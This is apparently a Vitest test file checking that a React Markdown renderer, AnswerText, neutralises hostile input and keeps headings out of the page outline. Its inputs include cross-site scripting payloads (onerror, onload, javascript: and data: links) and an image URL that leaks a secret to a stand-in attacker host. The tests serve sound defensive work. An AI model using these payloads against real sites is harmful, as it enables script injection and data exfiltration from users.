// @vitest-environment happy-dom
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";

import { AnswerText } from "./answer-text";

function show(text: string): HTMLElement {
  const box = document.createElement("div");
  box.innerHTML = renderToStaticMarkup(<AnswerText text={text} />);
  return box;
}

describe("AnswerText", () => {
  it("shows Markdown as the visitor saw it, without headings in the page's outline", () => {
    const box = show("# Hours\n\nWe are **open** from `9`.\n\n| day | hours |\n| --- | --- |\n| Mon | 9-5 |\n\n3. three\n4. four");
    expect(box.querySelector("strong")?.textContent).toBe("open");
    expect(box.querySelector("td")?.textContent).toBe("Mon");
    expect(box.querySelector("ol")?.getAttribute("start")).toBe("3");
    expect(box.querySelectorAll("h1, h2, h3, h4, h5, h6")).toHaveLength(0);
    expect(box.textContent).toContain("Hours");
  });

  it.each([
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<svg onload=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](https://bank.example@evil.example)",
    "![pixel](https://evil.example/?q=secret)",
    "![pixel](//evil.example/x.png)",
    "<https://ok.example/\"onmouseover=alert(1)>",
  ])("runs and loads nothing of %s", (text) => {
    const box = show(text);
    expect(box.querySelectorAll("script, img, svg, iframe, style, link, form, input")).toHaveLength(0);
    for (const element of box.querySelectorAll("*")) {
      expect([...element.attributes].filter(({ name }) => name.startsWith("on") || name === "style")).toEqual([]);
    }
    for (const link of box.querySelectorAll("a")) {
      expect(link.href).toMatch(/^https:\/\/(ok|evil)\.example\//);
      expect(link.rel).toContain("noopener");
    }
    expect(box.textContent).not.toBe("");
  });

  it("follows http, https and mailto only", () => {
    expect([...show("[a](https://a.example/) [b](mailto:b@example.com) [c](ftp://c.example)").querySelectorAll("a")].map(({ href }) => href))
      .toEqual(["https://a.example/", "mailto:b@example.com"]);
  });

  it("says when there is no text", () => {
    expect(show("  ").textContent).toBe("No text.");
  });
});
